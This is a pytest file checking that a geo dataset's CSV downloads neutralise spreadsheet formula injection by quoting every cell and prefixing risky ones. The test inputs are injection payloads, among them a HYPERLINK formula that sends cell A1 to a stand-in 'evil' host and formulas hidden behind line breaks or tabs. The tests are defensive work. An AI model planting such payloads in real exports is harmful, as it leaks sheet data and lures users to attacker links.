"""Downloads never carry a cell that a spreadsheet would run as a formula (the whole hostile
dataset through every download: tests/test_hostile_downloads.py)."""
import csv
import io

import pandas as pd
import pytest

from geo.dataset import download_csv, spreadsheet_safe, spreadsheet_safe_csv
from tests.conftest import DATA


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tcmd", "\rcmd"])
def test_formula_text_is_neutralised(text):
    table = spreadsheet_safe(pd.DataFrame({"title": [text], "deaths": pd.array([-3], dtype="Int64")}))
    assert table.loc[0, "title"] == "'" + text  # shown as text, every character kept
    assert table.loc[0, "deaths"] == -3  # numbers stay numbers


def test_a_csv_with_a_formula_cell_is_rewritten_and_a_clean_one_keeps_its_cells():
    hostile = b'id,title\nev-1998-x,"=HYPERLINK(""http://evil"",""x"")"\n'
    assert spreadsheet_safe_csv(hostile) == b'"id","title"\r\n"ev-1998-x","\'=HYPERLINK(""http://evil"",""x"")"\r\n'
    clean = (DATA / "events.csv").read_bytes()
    def cells(data):
        return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert cells(spreadsheet_safe_csv(clean)) == cells(clean)


@pytest.mark.parametrize("write", [lambda table: download_csv(table),
                                   lambda table: spreadsheet_safe_csv(table.to_csv(index=False).encode())],
                         ids=["a table", "a file"])
def test_a_line_break_or_tab_in_a_cell_cannot_start_a_row_or_a_cell_that_runs_a_formula(write):
    table = pd.DataFrame({"id": ["ev-1", "ev-2", "ev-3"], "title": ["Mazar\r=HYPERLINK(\"http://x\")", "\r\n@SUM(1)",
                                                                     "a\t=1+1"]})
    data = write(table)
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert [row[0] for row in rows] == ["id", "ev-1", "ev-2", "ev-3"]  # no row was split
    assert [row[1] for row in rows[1:]] == ["Mazar\r=HYPERLINK(\"http://x\")", "'\r\n@SUM(1)", "a\t=1+1"]
    # every cell quoted: a bare CR, a LF or a tab can never be read as the end of a cell or a row
    assert data == (b'"id","title"\r\n"ev-1","Mazar\r=HYPERLINK(""http://x"")"\r\n"ev-2","\'\r\n@SUM(1)"\r\n'
                    b'"ev-3","a\t=1+1"\r\n')
